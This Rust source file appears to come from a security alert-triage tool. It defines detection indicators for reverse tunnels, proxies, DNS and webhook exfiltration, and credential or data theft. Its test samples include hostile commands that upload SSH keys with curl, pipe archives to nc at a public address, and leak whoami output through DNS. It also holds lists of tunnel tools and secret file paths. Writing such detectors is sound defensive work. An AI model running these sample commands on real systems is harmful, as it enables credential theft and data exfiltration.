//! Tunnels, command channels and data on its way out.

use super::seen::Seen;
use super::words::{self, Url, has_any, parts};
use super::{Finds, Hit, Indicator};
use crate::analysis::paths::base_name;
use crate::cmdline::NestedKind;

pub(super) const ROWS: &[Indicator] = &[
    Indicator {
        id: "reverse-tunnel-to-address",
        finds: Finds::Command(&["ssh", "autossh", "plink", "dbclient"], |seen| {
            reverses(seen) && ssh_host(seen).is_some_and(words::is_public_address)
        }),
        weight: 78,
        techniques: &["T1572", "T1021.004"],
        reason: "A port of this machine is opened to a bare public address: a way back in past the firewall.",
        refuted_by: "The address belongs to you and the tunnel is documented.",
        example: &[("proc.cmdline", "ssh -N -R 0:127.0.0.1:22 -p 443 git@198.51.100.9")],
        look_alike: &[("proc.cmdline", "ssh -N -L 5432:db:5432 ops@198.51.100.9")],
    },
    Indicator {
        id: "reverse-tunnel",
        finds: Finds::Command(&["ssh", "autossh", "plink", "dbclient"], |seen| {
            reverses(seen) && !ssh_host(seen).is_some_and(words::is_public_address)
        }),
        weight: 50,
        techniques: &["T1572"],
        reason: "A port of this machine is opened to another: a way back in past the firewall.",
        refuted_by: "The other machine is yours and the tunnel is documented.",
        example: &[("proc.cmdline", "ssh -fN -R 2222:localhost:22 ops@bastion.example")],
        look_alike: &[("proc.cmdline", "ssh ops@bastion.example uptime")],
    },
    Indicator {
        id: "host-keys-not-checked",
        finds: Finds::Command(&["ssh", "autossh", "scp", "sftp"], |seen| {
            let host = ssh_host(seen).is_some_and(words::is_public_address);
            host && seen
                .any_arg(|arg| arg.contains("StrictHostKeyChecking=no") || arg.contains("UserKnownHostsFile=/dev/null"))
        }),
        weight: 25,
        techniques: &["T1021.004"],
        reason: "It connects to a bare public address without checking whom it talks to.",
        refuted_by: "A deployment script of yours that connects so.",
        example: &[("proc.cmdline", "ssh -o StrictHostKeyChecking=no a@198.51.100.9")],
        look_alike: &[("proc.cmdline", "ssh -o StrictHostKeyChecking=no a@10.0.0.5")],
    },
    Indicator {
        id: "socks-proxy",
        finds: Finds::Command(&["ssh", "3proxy", "microsocks", "gost", "glider", "dante"], |seen| {
            seen.name != "ssh" || (seen.command.has_option('D', "") && seen.command.has_option('N', ""))
        }),
        weight: 45,
        techniques: &["T1090"],
        reason: "The machine becomes a relay for others' traffic.",
        refuted_by: "A proxy that you run here by design.",
        example: &[("proc.cmdline", "ssh -N -D 1080 a@b.example")],
        look_alike: &[("proc.cmdline", "ssh -t a@b.example")],
    },
    Indicator {
        id: "tunnel-tool",
        finds: Finds::Command(&[], |seen| {
            let name = seen.program;
            let known = [
                "frpc",
                "frps",
                "ngrok",
                "localtunnel",
                "lt",
                "bore",
                "earthworm",
                "ew_linux",
                "nps",
                "npc",
                "pwnat",
                "rathole",
                "iox",
                "venom",
                "revsocks",
                "ptunnel",
                "hans",
                "udp2raw",
                "wstunnel",
                "goproxy",
                "reGeorg",
                "tor",
            ];
            let starts = seen.args().next().is_some() || name == "tor";
            (known.contains(&name) && starts && !seen.has_arg(&["--version", "version", "help", "--help"]))
                || (name == "cloudflared" && seen.has_arg(&["--url"]))
        }),
        weight: 62,
        techniques: &["T1572", "T1090"],
        reason: "The tool opens a tunnel out of the network, past the firewall.",
        refuted_by: "A tunnel that your team runs here by design.",
        example: &[("proc.cmdline", "frpc -c /tmp/frpc.ini")],
        look_alike: &[("proc.cmdline", "cloudflared tunnel run prod")],
    },
    Indicator {
        id: "relay-by-socat",
        finds: Finds::Command(&["socat"], |seen| {
            let outside = |arg: &str| {
                let rest = arg.split_once(':').map_or("", |(_, rest)| rest);
                let host = rest.split([':', ',']).next().unwrap_or("");
                words::is_public_address(host)
            };
            seen.any_arg(outside)
        }),
        weight: 60,
        techniques: &["T1090", "T1572"],
        reason: "socat relays traffic to a bare public address.",
        refuted_by: "The address belongs to you and the relay is documented.",
        example: &[("proc.cmdline", "socat TCP-LISTEN:8080,fork TCP:203.0.113.5:443")],
        look_alike: &[("proc.cmdline", "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80")],
    },
    Indicator {
        id: "data-in-dns-question",
        finds: Finds::Command(&["dig", "nslookup", "host", "ping", "getent"], |seen| {
            seen.command.nested.iter().any(|nested| nested.kind == NestedKind::Substitution)
                && seen.operands().any(|arg| arg.contains('.') && (arg.contains("$(") || arg.contains('`')))
        }),
        weight: 76,
        techniques: &["T1048.003", "T1071.004"],
        reason: "A command's output becomes part of a name that is looked up: data leaves by DNS.",
        refuted_by: "A script that builds the name of one of your hosts so.",
        example: &[("proc.cmdline", "sh -c nslookup $(whoami).a.oast.fun")],
        look_alike: &[("proc.cmdline", "sh -c nslookup api.example")],
    },
    Indicator {
        id: "callback-site",
        finds: Finds::Command(&[], |seen| {
            let sites = parts![
                "oast.",
                "interact.sh",
                "burpcollaborator.net",
                "oastify.com",
                "dnslog.cn",
                "ceye.io",
                "requestbin.",
                "webhook.site",
                "pipedream.net",
                "canarytokens.",
                "requestcatcher.com",
                "bxss.me",
                "eyes.sh",
            ];
            seen.may_hold(sites)
                && seen
                    .operands()
                    .chain(seen.urls().map(|url| url.host))
                    .any(|arg| arg.contains('.') && has_any(arg, sites))
        }),
        weight: 72,
        techniques: &["T1071", "T1595"],
        reason: "It calls a site that shows its caller to whoever set the trap: how exploits are tried out.",
        refuted_by: "A security test that is announced.",
        example: &[("proc.cmdline", "curl http://c2f8.oast.fun")],
        look_alike: &[("proc.cmdline", "curl http://shop.example/oats")],
    },
    Indicator {
        id: "chat-used-as-channel",
        finds: Finds::Command(&["curl", "wget", "python"], |seen| {
            let sites = parts!["api.telegram.org/bot", "discord.com/api/webhooks", "discordapp.com/api/webhooks"];
            seen.holds_any(sites) && seen.facts.in_container()
        }),
        weight: 50,
        techniques: &["T1102", "T1567"],
        reason: "A container reports to a chat service by a command line; stealers report so.",
        refuted_by: "A notification script of yours with this channel.",
        example: &[
            ("container.id", "c1"),
            ("proc.cmdline", "curl -s -X POST https://api.telegram.org/bot12:AA/sendMessage"),
        ],
        look_alike: &[("container.id", "c1"), ("proc.cmdline", "curl -s https://api.telegram.example/bot")],
    },
    Indicator {
        id: "secrets-sent-away",
        finds: Finds::Command(
            &["curl", "wget", "scp", "rsync", "rclone", "aws", "gsutil", "nc", "ftp", "sftp", "azcopy"],
            |seen| {
                let secret = seen.args().chain(seen.read()).any(is_secret_path);
                let sends = match seen.name {
                    "curl" => seen.any_arg(|arg| {
                        matches!(arg, "-F" | "-T" | "-d" | "--data-binary" | "--data" | "--form" | "--upload-file")
                            || arg.starts_with("-F")
                            || arg.starts_with("-d@")
                            || arg.starts_with("--data-binary=")
                    }),
                    "wget" => seen.any_arg(|arg| arg.starts_with("--post-file") || arg.starts_with("--body-file")),
                    "aws" => seen.has_arg(&["cp", "sync"]),
                    _ => true,
                };
                let backup = matches!(seen.name, "rsync" | "scp" | "sftp")
                    && ssh_host(seen).is_some_and(words::is_internal_host);
                (secret && sends && !backup)
                    || seen.fed_by(|c| {
                        c.arg_texts().any(is_secret_path)
                            && matches!(c.program(), "cat" | "tar" | "base64" | "gzip" | "zip")
                    }) && (sends || seen.name == "nc")
            },
        ),
        weight: 80,
        techniques: &["T1041", "T1567"],
        reason: "Keys, passwords or whole configurations are sent over the network.",
        refuted_by: "A backup of yours to this place.",
        example: &[("proc.cmdline", "curl -F file=@/root/.ssh/id_rsa https://a.example/u")],
        look_alike: &[("proc.cmdline", "curl -F file=@report.csv https://a.example/u")],
    },
    Indicator {
        id: "upload-to-bare-address",
        finds: Finds::Command(&["curl", "wget", "nc", "scp"], |seen| {
            let sends = match seen.name {
                "curl" => seen.any_arg(|arg| {
                    matches!(arg, "-F" | "-T" | "--data-binary" | "--upload-file")
                        || (arg.starts_with('@') && arg.len() > 1)
                }),
                "wget" => seen.any_arg(|arg| arg.starts_with("--post-file")),
                "nc" => {
                    seen.read().next().is_some()
                        || seen.fed_by(|c| matches!(c.program(), "cat" | "tar" | "base64" | "gzip" | "zip" | "dd"))
                }
                _ => seen.operands().count() >= 2,
            };
            let outside = seen.urls().any(|url| words::is_public_address(url.host))
                || seen.operands().any(words::is_public_address)
                || (seen.name == "scp"
                    && seen.operands().last().and_then(scp_host).is_some_and(words::is_public_address));
            sends && outside
        }),
        weight: 60,
        techniques: &["T1041", "T1048"],
        reason: "A file is sent to a bare public address.",
        refuted_by: "The address belongs to you or to a partner who gets this file.",
        example: &[("proc.cmdline", "sh -c tar cz /srv | nc 203.0.113.5 9000")],
        look_alike: &[("proc.cmdline", "scp /reports/a.csv batch@10.0.5.20:/srv/")],
    },
    Indicator {
        id: "secrets-read-out-by-tar",
        finds: Finds::Facts(|facts| {
            if facts.process.program.name != Some("tar") || !facts.alert.rule().starts_with("Exfiltrating Artifacts") {
                return None;
            }
            let text = facts.process.program.cmdline.unwrap_or("");
            let own = facts.file.path.filter(|path| is_secret_path(path)).map(|path| ("fd.name", path));
            let asked = text.split_ascii_whitespace().find(|word| is_secret_path(word)).map(|_| ("proc.cmdline", text));
            let (field, value) = own.or(asked)?;
            Hit::of(field, value)
        }),
        weight: 70,
        techniques: &["T1041", "T1552"],
        reason: "Secrets are copied out of a pod through the Kubernetes API.",
        refuted_by: "Somebody of your team who copied this file at this time.",
        example: &[
            ("rule", "Exfiltrating Artifacts via Kubernetes Control Plane"),
            ("proc.name", "tar"),
            ("proc.cmdline", "tar cf - /root/.aws/credentials"),
            ("fd.name", "/root/.aws/credentials"),
        ],
        look_alike: &[
            ("rule", "Exfiltrating Artifacts via Kubernetes Control Plane"),
            ("proc.name", "tar"),
            ("proc.cmdline", "tar cf - /app/logs"),
            ("fd.name", "/app/logs/app.log"),
        ],
    },
    Indicator {
        id: "archive-hidden-in-scratch-space",
        finds: Finds::Command(&["tar", "zip", "7z", "gzip"], |seen| {
            let hidden = |path: &str| super::execution::is_scratch(path) && crate::analysis::paths::is_hidden(path);
            seen.operands().chain(seen.written()).next().is_some_and(hidden)
                || seen.written().any(hidden)
                || seen.value_of(&["-f", "--file", "cf", "czf", "-cf", "-czf"]).is_some_and(hidden)
        }),
        weight: 62,
        techniques: &["T1560.001", "T1074.001"],
        reason: "An archive is made under a hidden name in scratch space: data is gathered before it is taken away.",
        refuted_by: "The tool that keeps its archives there.",
        example: &[("proc.cmdline", "tar cf /tmp/.d.tar /home")],
        look_alike: &[("proc.cmdline", "tar cf /backup/home.tar /home")],
    },
    Indicator {
        id: "whole-data-sent-away",
        finds: Finds::Command(&["scp", "rsync", "tar", "rclone", "curl", "sftp"], |seen| {
            let whole = |arg: &str| {
                matches!(
                    arg.trim_end_matches('/'),
                    "/etc"
                        | "/home"
                        | "/root"
                        | "/var/lib/mysql"
                        | "/var/lib/postgresql"
                        | "/var/lib/mongodb"
                        | "/data/db"
                        | "/var/www"
                        | "/var/www/html"
                        | "/opt"
                        | "/srv"
                        | "/var/lib"
                )
            };
            let to = ssh_host(seen).is_some_and(words::is_public_address)
                || seen.urls().any(|url| words::is_public_address(url.host));
            let piped = seen.feeds(|c| {
                c.arg_texts().any(words::is_public_address)
                    || super::seen::urls(c).any(|url| words::is_public_address(url.host))
            });
            seen.any_arg(whole) && (to || piped)
        }),
        weight: 76,
        techniques: &["T1048", "T1041"],
        reason: "A whole data directory is sent to a bare public address.",
        refuted_by: "A migration or backup of yours to this address.",
        example: &[("proc.cmdline", "scp -r /var/lib/mysql root@198.51.100.7:/loot")],
        look_alike: &[("proc.cmdline", "scp -r /var/lib/mysql root@10.0.0.7:/backup")],
    },
];

/// Whether ssh is asked for a tunnel from the far end to here.
fn reverses(seen: &Seen<'_, '_>) -> bool {
    seen.any_arg(|arg| {
        arg == "-R"
            || (arg.starts_with("-R") && arg.len() > 2)
            || (arg.starts_with('-') && !arg.starts_with("--") && arg.ends_with('R') && arg.len() <= 6)
            || arg.contains("RemoteForward")
    })
}

/// The host that ssh or scp goes to.
fn ssh_host<'a>(seen: &Seen<'_, 'a>) -> Option<&'a str> {
    const WITH_VALUE: &[&str] =
        &["-R", "-L", "-D", "-p", "-i", "-o", "-l", "-F", "-J", "-b", "-c", "-e", "-P", "-W", "-w", "-S", "-m", "-M"];
    let mut args = seen.args();
    let mut host = None;
    while let Some(arg) = args.next() {
        if WITH_VALUE.contains(&arg)
            || (arg.starts_with('-') && !arg.contains('=') && arg.ends_with('R') && arg.len() <= 6)
        {
            args.next();
        } else if !arg.starts_with('-') && !arg.contains("://") {
            let word = if matches!(seen.name, "scp" | "rsync" | "sftp") {
                scp_host(arg)
            } else {
                Some(arg.rsplit_once('@').map_or(arg, |(_, host)| host))
            };
            host = host.or(word);
        }
    }
    host
}

/// `user@host:path`
fn scp_host(word: &str) -> Option<&str> {
    let (host, _) = word.split_once(':')?;
    Some(host.rsplit_once('@').map_or(host, |(_, host)| host)).filter(|host| !host.contains('/'))
}

/// Files whose content lets one in.
pub(super) fn is_secret_path(word: &str) -> bool {
    let path = word.split_once('@').map_or(word, |(_, path)| path);
    let path = path.split_once("file=").map_or(path, |(_, rest)| rest);
    let parts = [
        "/etc/shadow",
        "/.ssh",
        "id_rsa",
        "/.aws",
        "/.kube",
        "/.docker/config.json",
        "/etc/kubernetes",
        "serviceaccount/token",
        "/run/secrets",
        "/.gnupg",
        ".git-credentials",
        "/environ",
        "wp-config.php",
        "/etc/passwd",
    ];
    (path.starts_with('/') || path.starts_with('~') || path.starts_with('.'))
        && parts.iter().any(|part| path.contains(part))
        && Url::of(word).is_none_or(|url| url.scheme.is_empty())
        && base_name(path) != "ca.crt"
}
